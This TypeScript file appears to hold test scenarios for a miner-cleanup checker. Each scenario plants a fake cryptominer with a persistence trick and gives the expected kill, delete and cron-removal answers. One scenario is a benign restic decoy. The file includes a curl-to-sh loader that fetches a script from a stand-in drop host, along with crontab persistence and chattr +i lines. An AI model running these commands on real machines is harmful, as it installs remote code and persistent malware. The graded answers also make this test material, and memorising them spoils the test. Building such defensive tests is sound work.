import { world } from '../../lab/addresses.ts';
import type { Scenario } from './scenario.ts';
import { addCron, dropHost, minerWords } from './words.ts';

const miner = (
  path: string,
  cron: readonly string[],
  more: Partial<Scenario['truth']> = {},
): Scenario['truth'] => ({
  verdict: ['confirmed'],
  ticked: { kill: [path], delete: [path], cron },
  bystanders: [],
  ending: 'cleaned',
  ...more,
});

/** Odd places and forms: what reports name beside the usual crontab. */
/** What the shell of the piped loader was given. */
const piped = `printf "%s\\n" "/tmp/.pipe/zigw ${minerWords} &" "curl -fsSL http://${dropHost}/next.sh -o /tmp/.pipe/n" | sh`;

export const places: readonly Scenario[] = [
  {
    name: 'a line in /etc/crontab',
    report: 'The system’s own file keeps every other byte and stays.',
    images: ['/etc/.kernel/kworkerds'],
    start: `printf '%s\\n' '*/5 * * * * root /etc/.kernel/kworkerds >/dev/null 2>&1' >>/etc/crontab
run /etc/.kernel/kworkerds`,
    runs: ['/etc/.kernel/kworkerds'],
    truth: miner('/etc/.kernel/kworkerds', ['*/5 * * * * root /etc/.kernel/kworkerds >/dev/null 2>&1'], {
      bystanders: ['/usr/sbin/cron'],
    }),
  },
  {
    name: 'an immutable miner and an immutable crontab',
    report: 'chattr +i on both: rm and crontab -e fail.',
    images: ['/usr/local/lib/.v/systemd-worker'],
    start: `${addCron('root', ['*/5 * * * * /usr/local/lib/.v/systemd-worker'])}
chattr +i /usr/local/lib/.v/systemd-worker /var/spool/cron/crontabs/root
run /usr/local/lib/.v/systemd-worker`,
    runs: ['/usr/local/lib/.v/systemd-worker'],
    truth: miner('/usr/local/lib/.v/systemd-worker', ['*/5 * * * * /usr/local/lib/.v/systemd-worker']),
  },
  {
    name: 'a second copy that waits elsewhere',
    report: 'Droppers keep a spare with the same hash; a cron line copies it back.',
    images: ['/tmp/.lock/xm', '/usr/lib/.spare'],
    start: `${addCron('root', ['*/5 * * * * cp /usr/lib/.spare /tmp/.lock/xm; /tmp/.lock/xm'])}
run /tmp/.lock/xm`,
    runs: ['/tmp/.lock/xm'],
    truth: miner('/tmp/.lock/xm', ['*/5 * * * * cp /usr/lib/.spare /tmp/.lock/xm; /tmp/.lock/xm'], {
      ticked: {
        kill: ['/tmp/.lock/xm'],
        delete: ['/tmp/.lock/xm', '/usr/lib/.spare'],
        cron: ['*/5 * * * * cp /usr/lib/.spare /tmp/.lock/xm; /tmp/.lock/xm'],
      },
    }),
  },
  {
    name: 'a cron line that also starts the administrator’s own script',
    report: 'The miner was hung behind an honest line: the line is offered, never ticked.',
    images: ['/var/tmp/.h/httpd'],
    files: { '/usr/local/bin/rotate.sh': '#!/bin/sh\nexit 0\n' },
    start: `${addCron('root', ['*/5 * * * * /usr/local/bin/rotate.sh; /var/tmp/.h/httpd >/dev/null 2>&1'])}
run /var/tmp/.h/httpd`,
    runs: ['/var/tmp/.h/httpd'],
    truth: miner('/var/tmp/.h/httpd', [], {
      offered: ['*/5 * * * * /usr/local/bin/rotate.sh; /var/tmp/.h/httpd >/dev/null 2>&1'],
      bystanders: ['/usr/local/bin/rotate.sh'],
      ending: 'partially-cleaned',
    }),
  },
  {
    name: 'a miner under timeout, nice and su',
    report: 'Wrappers stand between guard and miner; none of them is anybody’s guard.',
    accounts: ['git'],
    images: [{ path: '/home/git/.cache/apt', owner: 'git' }],
    files: {
      '/home/git/.cache/go.sh': {
        text: '#!/bin/sh\nwhile :; do nice -n 5 timeout 3600 /home/git/.cache/apt; sleep 2; done\n',
        owner: 'git',
      },
    },
    start: 'as git /home/git/.cache/go.sh',
    runs: ['/home/git/.cache/apt', '/home/git/.cache/go.sh'],
    truth: miner('/home/git/.cache/apt', [], {
      ticked: {
        kill: ['/home/git/.cache/go.sh', '/home/git/.cache/apt'],
        delete: ['/home/git/.cache/go.sh', '/home/git/.cache/apt'],
        cron: [],
      },
    }),
  },
  {
    name: 'a loader that is read from a pipe',
    report: '`curl … | sh` leaves a shell without a file: its words are in no script.',
    images: ['/tmp/.pipe/zigw'],
    start: `(exec setsid sh -c '${piped}' >/dev/null 2>&1 </dev/null) &`,
    runs: ['/tmp/.pipe/zigw', 'next.sh'],
    truth: miner('/tmp/.pipe/zigw', [], {
      // The shell around it covers the one that reads the pipe, and its download.
      ticked: {
        kill: [`sh -c ${piped.replaceAll('\\', '\\\\')}`, '/tmp/.pipe/zigw'],
        delete: ['/tmp/.pipe/zigw'],
        cron: [],
      },
    }),
  },
  {
    name: 'a backup server that is busy and talks to strangers',
    report: 'restic, borg, exporters: unpackaged, busy, connected to public addresses.',
    images: [
      {
        path: '/usr/local/bin/restic',
        to: { address: world.mirror, port: world.mirrorPort },
        strings: 'restic\nrepository\npack\n',
        stratum: false,
      },
    ],
    start: `${addCron('root', ['30 1 * * * /usr/local/bin/restic backup /srv'])}
run /usr/local/bin/restic rest-server --pool 4`,
    runs: ['/usr/local/bin/restic'],
    connects: false,
    truth: {
      verdict: ['not-a-miner'],
      ticked: { kill: [], delete: [], cron: [] },
      bystanders: ['/usr/local/bin/restic'],
      ending: 'not-a-miner',
    },
  },
];
